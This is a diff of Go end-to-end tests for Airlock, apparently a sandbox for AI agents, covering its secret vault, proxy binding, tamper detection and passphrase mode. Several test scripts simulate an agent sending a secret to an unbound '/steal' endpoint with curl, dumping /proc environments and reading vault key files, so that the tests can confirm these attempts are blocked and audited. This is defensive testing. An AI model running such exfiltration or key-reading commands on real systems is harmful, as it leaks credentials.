@@ -8,188 +8,111 @@ import (
 	"crypto/tls"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"encoding/base64"
+	"encoding/json"
 	"encoding/pem"
-	"fmt"
 	"io"
+	"log"
 	"math/big"
 	"net"
 	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
-	"github.com/miekg/dns"
-	"github.com/vishvananda/netlink"
-	"github.com/vishvananda/netns"
-	"golang.org/x/sys/unix"
+	"github.com/creack/pty"
 )
 
 const vaultCanary = "canary-e2e-4b1d9f0a7c3e"
 
-// vaultNet is a small test internet: a network namespace joined to the
-// host's by a veth pair in 198.18.0.0/15, holding an HTTPS server that
-// records what it receives and a DNS server for *.vault.test.
-type vaultNet struct {
-	link    string
-	caPEM   []byte
-	mu      sync.Mutex
-	got     []string
-	closers []func()
+// vaultServer is the test internet's recording HTTPS server for the vault
+// tests: web:8443, with a certificate for allowed.test and
+// www.allowed.test from a root only the host side trusts (the supervisor's
+// SSL_CERT_FILE, which nothing in the pod can change).
+type vaultServer struct {
+	n     *inet
+	trust string // the host-side bundle: system roots + the test root
+	mu    sync.Mutex
+	got   []string
 }
 
-func (n *vaultNet) received() string {
-	n.mu.Lock()
-	defer n.mu.Unlock()
-	return strings.Join(n.got, "\n")
+func (s *vaultServer) received() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return strings.Join(s.got, "\n")
 }
 
-func newVaultNet(t *testing.T) *vaultNet {
+// trustEnv is the supervisor's environment that trusts the test root.
+func (s *vaultServer) trustEnv() []string { return []string{"SSL_CERT_FILE=" + s.trust} }
+
+// newVaultServer builds the test internet (netharness_test.go), adds the
+// recording server, and writes a config allowing both names on 8443.
+func newVaultServer(t *testing.T, e *env) *vaultServer {
 	t.Helper()
-	n := &vaultNet{link: fmt.Sprintf("avt%d", os.Getpid()%100000)}
-	t.Cleanup(n.close)
-	cert, caPEM := vaultTestCerts(t)
-	n.caPEM = caPEM
-	errc := make(chan error, 1)
-	go func() {
-		// This thread enters the new namespace and never leaves: not
-		// unlocking it makes the runtime retire it with the goroutine.
-		runtime.LockOSThread()
-		errc <- n.build(cert)
-	}()
-	if err := <-errc; err != nil {
-		t.Fatalf("building the test internet: %v", err)
+	s := &vaultServer{n: newInet(t)}
+	cert, rootPEM := vaultTestCerts(t)
+	sys, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
+	if err != nil {
+		t.Fatal(err)
 	}
-	return n
+	s.trust = filepath.Join(t.TempDir(), "host-trust.pem")
+	if err := os.WriteFile(s.trust, append(sys, rootPEM...), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	l, _, err := s.n.listen("tcp4", net.JoinHostPort(s.n.web.String(), "8443"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := &http.Server{Handler: http.HandlerFunc(s.record), ReadHeaderTimeout: 5 * time.Second,
+		ErrorLog: log.New(io.Discard, "", 0)}
+	go func() { _ = srv.Serve(tls.NewListener(l, &tls.Config{Certificates: []tls.Certificate{cert}})) }()
+	t.Cleanup(func() { _ = srv.Close() })
+	e.netConfig(s.n, "  ports: [80, 443, 8443]\n", "allowed.test", "www.allowed.test")
+	return s
 }
 
-func (n *vaultNet) build(cert tls.Certificate) error {
-	host, err := netns.Get()
-	if err != nil {
-		return err
-	}
-	defer host.Close()
-	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
-		return err
-	}
-	inner, err := netns.Get()
-	if err != nil {
-		return err
-	}
-	defer inner.Close()
-	hh, err := netlink.NewHandleAt(host)
-	if err != nil {
-		return err
-	}
-	defer hh.Close()
-	veth := &netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: n.link}, PeerName: n.link + "p"}
-	if err := hh.LinkAdd(veth); err != nil {
-		return err
-	}
-	n.closers = append(n.closers, func() {
-		if l, err := netlink.LinkByName(n.link); err == nil {
-			_ = netlink.LinkDel(l)
-		}
-	})
-	peer, err := hh.LinkByName(n.link + "p")
-	if err != nil {
-		return err
-	}
-	if err := hh.LinkSetNsFd(peer, int(inner)); err != nil {
-		return err
-	}
-	hl, _ := hh.LinkByName(n.link)
-	a1, _ := netlink.ParseAddr("198.18.0.1/15")
-	a2, _ := netlink.ParseAddr("198.18.0.2/15")
-	if err := hh.AddrAdd(hl, a1); err != nil {
-		return err
-	}
-	if err := hh.LinkSetUp(hl); err != nil {
-		return err
-	}
-	pl, err := netlink.LinkByName(n.link + "p")
-	if err != nil {
-		return err
-	}
-	lo, _ := netlink.LinkByName("lo")
-	_ = netlink.LinkSetUp(lo)
-	if err := netlink.AddrAdd(pl, a2); err != nil {
-		return err
-	}
-	if err := netlink.LinkSetUp(pl); err != nil {
-		return err
-	}
-	return n.serve(cert)
+// record keeps what the server was sent; it answers without echoing any
+// of it (an echoing bound host would hand the value back to the agent).
+func (s *vaultServer) record(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	s.mu.Lock()
+	s.got = append(s.got, r.Host+" "+r.URL.RequestURI()+" auth="+r.Header.Get("Authorization")+
+		" token="+r.Header.Get("X-Token")+" body="+string(body))
+	s.mu.Unlock()
+	io.WriteString(w, "ok\n")
 }
 
-func (n *vaultNet) serve(cert tls.Certificate) error {
-	l, err := net.Listen("tcp4", "198.18.0.2:443")
-	if err != nil {
-		return err
-	}
-	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		body, _ := io.ReadAll(r.Body)
-		n.mu.Lock()
-		n.got = append(n.got, r.Host+" "+r.URL.RequestURI()+" auth="+r.Header.Get("Authorization")+" leak="+r.Header.Get("X-Leak")+" body="+string(body))
-		n.mu.Unlock()
-		io.WriteString(w, "ok\n")
-	}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
-	go srv.Serve(tls.NewListener(l, srv.TLSConfig))
-	n.closers = append(n.closers, func() { srv.Close() })
-	pc, err := net.ListenPacket("udp4", "198.18.0.2:53")
-	if err != nil {
-		return err
-	}
-	ds := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, r *dns.Msg) {
-		m := new(dns.Msg).SetReply(r)
-		for _, q := range r.Question {
-			if q.Qtype == dns.TypeA && strings.HasSuffix(q.Name, "vault.test.") {
-				rr, _ := dns.NewRR(q.Name + " 60 IN A 198.18.0.2")
-				m.Answer = append(m.Answer, rr)
-			}
-		}
-		_ = w.WriteMsg(m)
-	})}
-	go ds.ActivateAndServe()
-	n.closers = append(n.closers, func() { _ = ds.Shutdown() })
-	return nil
-}
-
-func (n *vaultNet) close() {
-	for i := len(n.closers) - 1; i >= 0; i-- {
-		n.closers[i]()
-	}
-}
-
-// vaultTestCerts makes a test root and a server certificate for the
-// test internet's names.
+// vaultTestCerts makes a test root and a server certificate under it.
 func vaultTestCerts(t *testing.T) (tls.Certificate, []byte) {
-	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
-	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "vault e2e root"},
+	t.Helper()
+	rootKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	rootT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "vault e2e root"},
 		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
 		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
-	caDER, err := x509.CreateCertificate(rand.Reader, caT, caT, &caKey.PublicKey, caKey)
+	rootDER, err := x509.CreateCertificate(rand.Reader, rootT, rootT, &rootKey.PublicKey, rootKey)
 	if err != nil {
 		t.Fatal(err)
 	}
-	ca, _ := x509.ParseCertificate(caDER)
+	root, _ := x509.ParseCertificate(rootDER)
 	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
-	lt := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "api.vault.test"},
-		DNSNames:  []string{"api.vault.test", "other.vault.test"},
+	leafT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "allowed.test"},
+		DNSNames:  []string{"allowed.test", "www.allowed.test"},
 		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
 		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
-	der, err := x509.CreateCertificate(rand.Reader, lt, ca, &key.PublicKey, caKey)
+	der, err := x509.CreateCertificate(rand.Reader, leafT, root, &key.PublicKey, rootKey)
 	if err != nil {
 		t.Fatal(err)
 	}
-	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key},
+		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: rootDER})
 }
 
-// runEnv runs airlock with extra environment, stdin from in.
+// runEnv runs airlock with extra environment (later entries win), stdin
+// from in.
 func (e *env) runEnv(extra []string, in string, args ...string) result {
 	e.t.Helper()
 	cmd := exec.Command(bin, args...)
@@ -208,84 +131,327 @@ func (e *env) runEnv(extra []string, in string, args ...string) result {
 	return result{code, out.String(), errb.String()}
 }
 
-// The pod uses a bound secret without ever holding it: the server gets
-// the value, another host gets nothing and the attempt is audited as a
-// leak, and the value is nowhere the agent or a log could show it.
-func TestVaultProxySecretNeverSeen(t *testing.T) {
-	e := newEnv(t)
-	inet := newVaultNet(t)
-	sys, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
+// onTerminal runs airlock with its stdout on a pseudo-terminal and
+// returns what it printed there.
+func (e *env) onTerminal(args ...string) (string, int) {
+	e.t.Helper()
+	cmd := exec.Command(bin, args...)
+	cmd.Dir = e.ws
+	cmd.Env = append(os.Environ(), "AIRLOCK_HOME="+e.home)
+	ptm, pts, err := pty.Open()
 	if err != nil {
-		t.Fatal(err)
+		e.t.Fatal(err)
 	}
-	bundle := filepath.Join(t.TempDir(), "trust.pem")
-	os.WriteFile(bundle, append(sys, inet.caPEM...), 0o644)
-	trust := []string{"SSL_CERT_FILE=" + bundle}
-
-	var outputs []string
-	keep := func(r result) result { outputs = append(outputs, r.stdout, r.stderr); return r }
-	keep(e.must("init", "vp"))
-	cfg := filepath.Join(e.home, "pods", "vp", "pod.yaml")
-	y, _ := os.ReadFile(cfg)
-	ys := strings.Replace(string(y), "  allow: []\n", "  allow: [api.vault.test, other.vault.test]\n", 1)
-	ys = strings.Replace(ys, "  allow_private: []\n", "  allow_private: [198.18.0.0/15]\n", 1)
-	ys = strings.Replace(ys, "    upstream: []\n", "    upstream: [\"198.18.0.2:53\"]\n", 1)
-	os.WriteFile(cfg, []byte(ys), 0o644)
-
-	if r := keep(e.run(vaultCanary+"\n", "vault", "vp", "set", "API_KEY")); r.code != 0 {
-		t.Fatalf("vault set: %+v", r)
+	defer ptm.Close()
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = pts, pts, pts
+	if err := cmd.Start(); err != nil {
+		e.t.Fatal(err)
 	}
-	if r := keep(e.run("", "vault", "vp", "get", "API_KEY")); r.code == 0 {
-		t.Fatalf("get without --reveal succeeded: %+v", r)
-	}
-	if r := keep(e.run("", "vault", "vp", "get", "API_KEY", "--reveal")); r.code == 0 {
-		t.Fatalf("get --reveal to a pipe succeeded: %+v", r)
-	}
-	keep(e.must("vault", "vp", "bind", "API_KEY", "--host", "api.vault.test"))
-	ls := keep(e.must("vault", "vp", "ls", "--json"))
-	if !strings.Contains(ls.stdout, `"api.vault.test"`) || !strings.Contains(ls.stdout, `"proxy"`) {
-		t.Fatalf("ls --json: %s", ls.stdout)
-	}
-	script := `c1=$(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $API_KEY" "https://api.vault.test/use?k=$API_KEY")
-echo "bound=$c1"
-c2=$(curl -sS -o /dev/null -w '%{http_code}' -H "X-Leak: $API_KEY" https://other.vault.test/steal)
-echo "other=$c2"
-case "$API_KEY" in airlock-placeholder-API_KEY-*) echo "placeholder=ok";; esac
-echo "$API_KEY" > held.txt
-for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done`
-	r := keep(e.runEnv(trust, "", "run", "vp", "--", "sh", "-c", script))
-	if r.code != 0 || !strings.Contains(r.stdout, "bound=200") || !strings.Contains(r.stdout, "other=403") || !strings.Contains(r.stdout, "placeholder=ok") {
-		t.Fatalf("run: exit %d\nstdout: %s\nstderr: %s\nserver: %s", r.code, r.stdout, r.stderr, inet.received())
-	}
-	if !strings.Contains(r.stdout, "API_KEY=airlock-placeholder-API_KEY-") || !strings.Contains(r.stdout, "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt") {
-		t.Fatalf("the pod's /proc/*/environ dump lacks the placeholder or the CA variables:\n%s", r.stdout)
-	}
-	got := inet.received()
-	if !strings.Contains(got, "api.vault.test /use?k="+vaultCanary+" auth=Bearer "+vaultCanary) {
-		t.Fatalf("bound server did not receive the value: %q", got)
-	}
-	if strings.Contains(got, "other.vault.test") {
-		t.Fatalf("the placeholder reached the unbound host: %q", got)
-	}
-	keep(e.must("diff", "vp", "-p"))
-	audit, _ := os.ReadFile(filepath.Join(e.home, "pods", "vp", "audit.jsonl"))
-	if !bytes.Contains(audit, []byte(`"action":"net.leak"`)) || !bytes.Contains(audit, []byte(`"secret":"API_KEY"`)) || !bytes.Contains(audit, []byte(`"action":"net.secret"`)) {
-		t.Errorf("audit lacks the secret use or the leak:\n%s", audit)
-	}
-	for i, o := range outputs {
-		if strings.Contains(o, vaultCanary) {
-			t.Errorf("canary in CLI output %d: %q", i, o)
+	pts.Close()
+	var out bytes.Buffer
+	_, _ = io.Copy(&out, ptm) // ends with EIO once the child has gone
+	code := 0
+	if err := cmd.Wait(); err != nil {
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
 		}
 	}
-	// Every file Airlock or the pod wrote: state, layer, vault, audit.
-	for _, root := range []string{e.home, e.ws} {
+	return out.String(), code
+}
+
+// canaryFree fails the test if the canary is in any file under roots.
+func canaryFree(t *testing.T, canary string, roots ...string) {
+	t.Helper()
+	for _, root := range roots {
 		filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
 			if err == nil && fi.Mode().IsRegular() {
-				if b, _ := os.ReadFile(p); bytes.Contains(b, []byte(vaultCanary)) {
-					t.Errorf("canary on disk in %s", p)
+				if b, _ := os.ReadFile(p); bytes.Contains(b, []byte(canary)) {
+					t.Errorf("SECURITY: canary on disk in %s", p)
 				}
 			}
 			return nil
 		})
 	}
+}
+
+// The pod uses a bound secret without ever holding it: the bound server
+// gets the value, through every common client; the same placeholder sent
+// to another allowed host is blocked and audited as a leak; and the value
+// is nowhere the agent or an observer can look.
+func TestVaultProxySecretNeverSeen(t *testing.T) {
+	e := newEnv(t)
+	s := newVaultServer(t, e)
+	var outputs []string
+	keep := func(r result) result { outputs = append(outputs, r.stdout, r.stderr); return r }
+	keep(e.must("init", "vp"))
+	if r := keep(e.run(vaultCanary+"\n", "vault", "vp", "set", "API_KEY")); r.code != 0 {
+		t.Fatalf("vault set: %+v", r)
+	}
+	if r := keep(e.run("", "vault", "vp", "get", "API_KEY")); r.code != 2 {
+		t.Fatalf("get without --reveal: want exit 2, got %+v", r)
+	}
+	if r := keep(e.run("", "vault", "vp", "get", "API_KEY", "--reveal")); r.code != 7 {
+		t.Fatalf("get --reveal to a pipe: want exit 7, got %+v", r)
+	}
+	keep(e.must("vault", "vp", "bind", "API_KEY", "--host", "Allowed.Test.", "--header", "Authorization: Bearer {}"))
+	ls := keep(e.must("vault", "vp", "ls", "--json"))
+	var entries []struct {
+		Name    string
+		Binding struct {
+			Mode, Header string
+			Hosts        []string
+		}
+	}
+	if err := json.Unmarshal([]byte(ls.stdout), &entries); err != nil || len(entries) != 1 ||
+		entries[0].Binding.Mode != "proxy" || entries[0].Binding.Hosts[0] != "allowed.test" {
+		t.Fatalf("ls --json: %v %s", err, ls.stdout)
+	}
+	keep(e.must("vault", "vp", "ls"))
+
+	script := `u=https://allowed.test:8443
+c() { l=$1; shift; echo "$l=$(curl -sS --max-time 6 -o /dev/null -w '%{http_code}' "$@" 2>&1)"; }
+c bound -H "X-Token: $API_KEY" "$u/curl?k=$API_KEY"
+c bound-transparent --noproxy '*' "$u/transparent"
+c other -H "X-Token: $API_KEY" https://www.allowed.test:8443/steal
+c other-query "https://www.allowed.test:8443/steal?k=$API_KEY"
+c other-body --data "k=$API_KEY" https://www.allowed.test:8443/steal
+c plain-http -H "X-Token: $API_KEY" http://allowed.test/
+c clean https://www.allowed.test:8443/clean
+echo "python=$(/usr/bin/python3 -c 'import os, urllib.request as u
+r = u.Request("https://allowed.test:8443/python", headers={"X-Token": os.environ["API_KEY"]})
+print(u.urlopen(r, timeout=6).status)' 2>&1 | tail -1)"
+echo "node=$(node -e 'fetch("https://allowed.test:8443/node", {headers: {"X-Token": process.env.API_KEY}}).then(r => console.log(r.status), e => console.log(e.cause || e))' 2>&1)"
+git -c http.lowSpeedTime=6 ls-remote "$u/git" >/dev/null 2>git.err; echo "git=$(grep -c 'certificate' git.err)"
+case "$API_KEY" in airlock-placeholder-API_KEY-*) echo "placeholder=ok";; esac
+echo "$API_KEY" > held.txt
+sleep 30 & # a second process for the /proc dump
+for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo "== $f"; tr '\0' ' ' < "$f"; echo; done
+kill $!`
+	r := keep(e.runEnv(s.trustEnv(), "", "run", "vp", "-T", "--", "sh", "-c", script))
+	t.Logf("pod:\n%s", r.stdout)
+	if r.code != 0 {
+		t.Fatalf("run: exit %d\nstderr: %s\nserver: %s", r.code, r.stderr, s.received())
+	}
+	for _, want := range []string{"bound=200", "bound-transparent=200", "other=403", "other-query=403", "other-body=403",
+		"plain-http=403", "clean=200", "python=200", "node=200", "git=0", "placeholder=ok"} {
+		if !strings.Contains(r.stdout, want+"\n") {
+			t.Errorf("pod output lacks %q", want)
+		}
+	}
+	if !strings.Contains(r.stdout, "API_KEY=airlock-placeholder-API_KEY-") ||
+		!strings.Contains(r.stdout, "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt") {
+		t.Errorf("the pod's /proc/*/environ lacks the placeholder or the CA variables")
+	}
+
+	got := s.received()
+	for _, want := range []string{
+		"allowed.test:8443 /curl?k=" + vaultCanary + " auth=Bearer " + vaultCanary + " token=" + vaultCanary,
+		"allowed.test:8443 /transparent auth=Bearer " + vaultCanary,
+		"allowed.test:8443 /python auth=Bearer " + vaultCanary + " token=" + vaultCanary,
+		"allowed.test:8443 /node auth=Bearer " + vaultCanary + " token=" + vaultCanary,
+		"allowed.test:8443 /git/info/refs?service=git-upload-pack auth=Bearer " + vaultCanary,
+		"www.allowed.test:8443 /clean auth= token= body=",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("bound server did not receive %q; it got:\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "/steal") {
+		t.Errorf("SECURITY: the placeholder reached the unbound host: %q", got)
+	}
+
+	evs := e.audit("vp")
+	e.wantAudit(evs, "net.secret", "allow", "API_KEY", "allowed.test")
+	for _, where := range []string{"header", "url", "body"} {
+		e.wantAudit(evs, "net.leak", "deny", "API_KEY", "www.allowed.test", where)
+	}
+	e.wantAudit(evs, "net.leak", "deny", "API_KEY", "host:allowed.test path:proxy", "header") // plain http to the bound host
+	keep(e.must("audit", "vp", "--json"))
+	keep(e.must("diff", "vp", "-p"))
+	keep(e.must("status", "vp", "--json"))
+	for i, o := range outputs {
+		if strings.Contains(o, vaultCanary) {
+			t.Errorf("SECURITY: canary in CLI output %d: %q", i, o)
+		}
+	}
+	// Every file Airlock or the pod wrote: state, layer, vault, audit,
+	// run directory.
+	canaryFree(t, vaultCanary, e.home, e.ws)
+}
+
+// Airlock's state directory is invisible in the pod even when it lies
+// inside the pod's view (here: in the home directory, where a non-root
+// user's state lives by default). With vault.key and key.json in reach
+// the agent could open every secret itself.
+func TestVaultStateHiddenFromPod(t *testing.T) {
+	e := newEnv(t)
+	home := filepath.Join(t.TempDir(), "home")
+	state := filepath.Join(home, ".local", "share", "airlock")
+	if err := os.MkdirAll(home, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	as := []string{"HOME=" + home, "AIRLOCK_HOME=" + state}
+	if r := e.runEnv(as, "", "init", "hp"); r.code != 0 {
+		t.Fatalf("init: %+v", r)
+	}
+	if r := e.runEnv(as, vaultCanary, "vault", "hp", "set", "K"); r.code != 0 {
+		t.Fatalf("set: %+v", r)
+	}
+	for _, f := range []string{"vault.key", "audit.key", "pods/hp/vault/key.json", "pods/hp/vault/secrets/K.json", "pods/hp/audit.jsonl"} {
+		if _, err := os.Stat(filepath.Join(state, f)); err != nil {
+			t.Fatalf("set-up: %v", err)
+		}
+	}
+	script := `ls -A "$S"; cat "$S/vault.key" "$S/pods/hp/vault/key.json" "$S/pods/hp/vault/secrets/K.json" 2>/dev/null | wc -c; ls "$HOME/.local/share"`
+	r := e.runEnv(as, "", "run", "hp", "-T", "-e", "S="+state, "--", "sh", "-c", script)
+	if r.code != 0 {
+		t.Fatalf("run: %+v", r)
+	}
+	if lines := strings.Fields(r.stdout); len(lines) != 2 || lines[0] != "0" || lines[1] != "airlock" {
+		t.Fatalf("SECURITY: the pod sees Airlock's state: %q", r.stdout)
+	}
+}
+
+// Values round-trip (env mode hands them over exactly, import and the
+// terminal-only reveal work); a tampered file, a ciphertext moved to
+// another pod and another pod's key all fail to open with one clear line,
+// never garbage and never the value.
+func TestVaultRoundTripTamperAndSwap(t *testing.T) {
+	e := newEnv(t)
+	e.must("init", "pa")
+	e.must("init", "pb")
+	e.write("../secrets.env", "# test\nexport ONE=\""+vaultCanary+"-one\"\nTWO='two words'\n")
+	imp := e.must("vault", "pa", "import", "../secrets.env")
+	if !strings.Contains(imp.stdout, "ONE, TWO") {
+		t.Fatalf("import: %+v", imp)
+	}
+	e.must("vault", "pa", "bind", "ONE", "--mode", "env")
+	e.must("vault", "pa", "bind", "TWO", "--mode", "env")
+	if r := e.run(vaultCanary+"-b", "vault", "pb", "set", "ONE"); r.code != 0 {
+		t.Fatalf("set: %+v", r)
+	}
+	e.must("vault", "pb", "bind", "ONE", "--mode", "env")
+	printenv := []string{"run", "-T", "--", "sh", "-c", `printf '%s|%s\n' "$ONE" "$TWO"`}
+	runPod := func(pod string) result { return e.run("", append([]string{printenv[0], pod}, printenv[1:]...)...) }
+	if r := runPod("pa"); r.code != 0 || r.stdout != vaultCanary+"-one|two words\n" {
+		t.Fatalf("env-mode round trip: %+v", r)
+	}
+	e.wantAudit(e.audit("pa"), "vault.env", "warning", "ONE", "TWO")
+	if out, code := e.onTerminal("vault", "pb", "get", "ONE", "--reveal"); code != 0 || !strings.Contains(out, vaultCanary+"-b") {
+		t.Fatalf("get --reveal on a terminal: exit %d %q", code, out)
+	}
+	e.wantAudit(e.audit("pb"), "vault.get", "revealed", "ONE")
+
+	va := filepath.Join(e.home, "pods", "pa", "vault")
+	vb := filepath.Join(e.home, "pods", "pb", "vault")
+	one := filepath.Join(va, "secrets", "ONE.json")
+	orig, err := os.ReadFile(one)
+	if err != nil {
+		t.Fatal(err)
+	}
+	refused := func(what, pod, want string) {
+		t.Helper()
+		r := runPod(pod)
+		msg := strings.TrimSpace(r.stderr)
+		if r.code == 0 || !strings.Contains(msg, want) || strings.Contains(msg, "\n") ||
+			strings.Contains(r.stdout+r.stderr, vaultCanary) || strings.Contains(r.stdout, "|") {
+			t.Errorf("SECURITY %s: want a one-line %q refusal without the value, got exit %d\nstdout: %q\nstderr: %q", what, want, r.code, r.stdout, r.stderr)
+		}
+	}
+	edit := func(path string, f func(map[string]any)) {
+		t.Helper()
+		var m map[string]any
+		if err := json.Unmarshal(orig, &m); err != nil {
+			t.Fatal(err)
+		}
+		f(m)
+		b, _ := json.Marshal(m)
+		if err := os.WriteFile(path, b, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// One flipped bit of the ciphertext.
+	edit(one, func(m map[string]any) {
+		sealed, _ := base64.StdEncoding.DecodeString(m["sealed"].(string))
+		sealed[5] ^= 1
+		m["sealed"] = base64.StdEncoding.EncodeToString(sealed)
+	})
+	refused("flipped ciphertext", "pa", "does not open")
+	// The binding changed by hand, from env to proxy towards another host.
+	edit(one, func(m map[string]any) { m["binding"] = map[string]any{"mode": "env", "header": "X: {}"} })
+	refused("edited binding", "pa", "does not open")
+	// Garbage instead of JSON.
+	os.WriteFile(one, []byte("not json"), 0o600)
+	refused("garbage record", "pa", "damaged")
+	os.WriteFile(one, orig, 0o600)
+	if r := runPod("pa"); r.code != 0 {
+		t.Fatalf("restored record: %+v", r)
+	}
+
+	// pa's sealed ONE moved into pb, alone and then with pa's key file.
+	bOne := filepath.Join(vb, "secrets", "ONE.json")
+	bOrig, _ := os.ReadFile(bOne)
+	os.WriteFile(bOne, orig, 0o600)
+	refused("ciphertext moved between pods", "pb", "does not open")
+	bKey, _ := os.ReadFile(filepath.Join(vb, "key.json"))
+	aKey, _ := os.ReadFile(filepath.Join(va, "key.json"))
+	os.WriteFile(filepath.Join(vb, "key.json"), aKey, 0o600)
+	refused("key file moved between pods", "pb", "cannot unlock")
+	os.WriteFile(filepath.Join(vb, "key.json"), bKey, 0o600)
+	os.WriteFile(bOne, bOrig, 0o600)
+	// A wrong host key.
+	hk := filepath.Join(e.home, "vault.key")
+	hkOrig, _ := os.ReadFile(hk)
+	os.WriteFile(hk, bytes.Repeat([]byte{1}, len(hkOrig)), 0o600)
+	refused("wrong host key", "pb", "cannot unlock")
+	os.WriteFile(hk, hkOrig, 0o600)
+	if r := runPod("pb"); r.code != 0 || r.stdout != vaultCanary+"-b|\n" {
+		t.Fatalf("pb after restoring: %+v", r)
+	}
+
+	e.must("vault", "pa", "rm", "TWO")
+	e.expect(3, "not in the vault", "vault", "pa", "rm", "TWO")
+	ls := e.must("vault", "pa", "ls")
+	if strings.Contains(ls.stdout, "TWO") || !strings.Contains(ls.stdout, "ONE") || strings.Contains(ls.stdout, vaultCanary) {
+		t.Fatalf("ls after rm: %q", ls.stdout)
+	}
+	e.expect(2, "--host and --header apply to proxy mode only", "vault", "pa", "bind", "ONE", "--mode", "env", "--host", "allowed.test")
+	e.expect(2, "no wildcard", "vault", "pa", "bind", "ONE", "--host", "*.allowed.test")
+	e.expect(2, "no wildcard", "vault", "pa", "bind", "ONE", "--host", "198.51.100.7")
+	e.expect(2, "frames or routes", "vault", "pa", "bind", "ONE", "--host", "a.test", "--header", "Host: {}")
+	e.expect(2, "empty secret value", "vault", "pa", "set", "EMPTY")
+	e.expect(2, "secret name", "vault", "pa", "set", "not-a-name")
+	canaryFree(t, vaultCanary, e.home, e.ws)
+}
+
+// A passphrase vault: no host key, the passphrase unlocks it for the CLI
+// and the supervisor, a wrong one is one clear line, and the agent never
+// sees the passphrase.
+func TestVaultPassphrase(t *testing.T) {
+	e := newEnv(t)
+	e.must("init", "pp")
+	if r := e.run("correct horse\n", "vault", "pp", "init", "--passphrase-stdin"); r.code != 0 || !strings.Contains(r.stdout, "argon2id") {
+		t.Fatalf("vault init: %+v", r)
+	}
+	pw := []string{"AIRLOCK_VAULT_PASSPHRASE=correct horse"}
+	if r := e.runEnv(pw, vaultCanary, "vault", "pp", "set", "K"); r.code != 0 {
+		t.Fatalf("set: %+v", r)
+	}
+	if r := e.runEnv(pw, "", "vault", "pp", "bind", "K", "--mode", "env"); r.code != 0 {
+		t.Fatalf("bind: %+v", r)
+	}
+	if _, err := os.Stat(filepath.Join(e.home, "vault.key")); err == nil {
+		t.Errorf("a passphrase vault created the host key")
+	}
+	run := []string{"run", "pp", "-T", "--", "sh", "-c", `echo "k=$K"; env | grep -c PASSPHRASE`}
+	if r := e.runEnv([]string{"AIRLOCK_VAULT_PASSPHRASE=wrong"}, "", run...); r.code == 0 || !strings.Contains(r.stderr, "wrong passphrase") || strings.Contains(r.stdout, "k=") {
+		t.Fatalf("wrong passphrase: %+v", r)
+	}
+	if r := e.run("", run...); r.code == 0 || !strings.Contains(r.stderr, "AIRLOCK_VAULT_PASSPHRASE") {
+		t.Fatalf("no passphrase: %+v", r)
+	}
+	if r := e.runEnv(pw, "", run...); r.code != 1 || r.stdout != "k="+vaultCanary+"\n0\n" {
+		t.Fatalf("right passphrase: %+v", r)
+	}
+	canaryFree(t, vaultCanary, e.home, e.ws)
 }
